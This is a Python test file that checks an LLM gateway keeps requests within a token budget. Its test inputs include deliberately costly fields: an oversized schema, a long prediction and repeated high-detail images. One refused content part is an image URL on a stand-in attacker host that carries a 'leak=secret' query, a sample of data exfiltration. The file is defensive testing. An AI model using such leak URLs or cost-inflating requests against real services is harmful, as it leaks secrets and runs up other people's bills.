"""Request fields that cost tokens outside the messages cannot spend past a budget: a real
gateway relays to a real upstream process that bills as OpenAI does (the fault server: every
field the model reads, a flat price per image, a rejected prediction as completion)."""

from __future__ import annotations

import json

import openai
import pytest
from upstream_fault_server import IMAGE_TOKENS, FaultServer

from agentforge.llm.config import RetryPolicy
from agentforge.llm.gateway import Budget, Gateway
from agentforge.llm.ledger import Ledger
from agentforge.llm.spec import Endpoint

RUN_BUDGET = 20_000
# A 1x1 PNG: a few bytes the gateway sees, the price of a whole image upstream.
PIXEL = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
         "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
SCHEMA = {"type": "json_schema", "json_schema": {"name": "answer", "schema": {
    "type": "object", "description": "Answer in the voice of a patient teacher. " * 7000,
    "properties": {"answer": {"type": "string"}}}}}
ATTACKS = {
    "response_format": {"response_format": SCHEMA, "max_tokens": 100},
    "prediction": {"prediction": {"type": "content", "content": "def f():\n    pass\n" * 20000},
                   "max_tokens": 100},
    "images": {"max_tokens": 100, "parts": [{"type": "image_url", "image_url": {
        "url": PIXEL, "detail": "high"}}] * 4},
}


@pytest.fixture(scope="module")
def upstream(tmp_path_factory):
    with FaultServer(tmp_path_factory.mktemp("upstream")) as server:
        yield server


@pytest.fixture()
def gateway(upstream, tmp_path):
    endpoint = Endpoint(base_url=upstream.base_url, model="gpt-4o-mini", api_key="sk-real")
    retry = RetryPolicy(attempts=1, timeout=60)
    with Gateway(endpoint, Ledger(tmp_path / "ledger.db"), retry=retry, tcp_port=0) as gw:
        yield gw


def ask(gateway, grant, text: str, parts=(), **extra) -> int:
    """One chat call through the gateway's HTTP listener; its HTTP status."""
    client = openai.OpenAI(base_url=gateway.tcp_base_url, api_key=grant.token, max_retries=0,
                           timeout=120)
    content = [{"type": "text", "text": text}, *parts] if parts else text
    try:
        client.chat.completions.create(model="m", messages=[{"role": "user", "content": content}],
                                       extra_body=extra)
        return 200
    except openai.APIStatusError as exc:
        return exc.status_code


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_a_costly_field_cannot_book_past_the_run_budget(gateway, upstream, attack):
    grant = gateway.grant(run_id="r", task_id=attack, run_budget=Budget(tokens=RUN_BUDGET))
    fields = dict(ATTACKS[attack])
    status = ask(gateway, grant, f"costly {attack}", parts=fields.pop("parts", ()), **fields)
    gateway.flush()
    booked = gateway.ledger.spend(run_id="r").tokens
    assert booked <= RUN_BUDGET, f"{attack}: booked {booked} of {RUN_BUDGET} (HTTP {status})"
    assert status in (200, 402), status
    if status == 402:
        assert upstream.requests(f"costly {attack}") == []


def test_costly_fields_are_answered_when_the_budget_holds_their_cost(gateway, upstream):
    budget = 3 * IMAGE_TOKENS
    grant = gateway.grant(run_id="r", task_id="roomy", budget=Budget(tokens=budget))
    prediction = {"type": "content", "content": "x = 1\n" * 2000}
    assert ask(gateway, grant, "all at once", parts=ATTACKS["images"]["parts"][:1],
               response_format={"type": "json_object"}, prediction=prediction) == 200
    [sent] = [entry["body"] for entry in upstream.requests("all at once")]
    assert sent["prediction"] == prediction and sent["response_format"]["type"] == "json_object"
    gateway.flush()
    assert 0 < gateway.ledger.spend(run_id="r", task_id="roomy").tokens <= budget


@pytest.mark.parametrize("part", [
    {"type": "image_url", "image_url": {"url": "https://attacker.example/x.png?leak=secret"}},
    {"type": "image_url", "image_url": "data:image/png;base64,AAAA"},
    {"type": "file", "file": {"file_data": "data:application/pdf;base64,JVBERi0="}},
    {"type": "video_url", "video_url": {"url": "data:video/mp4;base64,AAAA"}},
], ids=["remote-image", "bare-url", "file", "video"])
def test_parts_whose_cost_cannot_be_known_are_refused(gateway, upstream, part):
    grant = gateway.grant(run_id="r", task_id="parts", budget=Budget(tokens=10**7))
    client = openai.OpenAI(base_url=gateway.tcp_base_url, api_key=grant.token, max_retries=0)
    with pytest.raises(openai.BadRequestError) as refused:
        client.chat.completions.create(model="m", messages=[{"role": "user", "content": [
            {"type": "text", "text": f"part {json.dumps(part)[:30]}"}, part]}])
    assert "agentforge gateway" in str(refused.value)
    assert upstream.requests("part ") == []
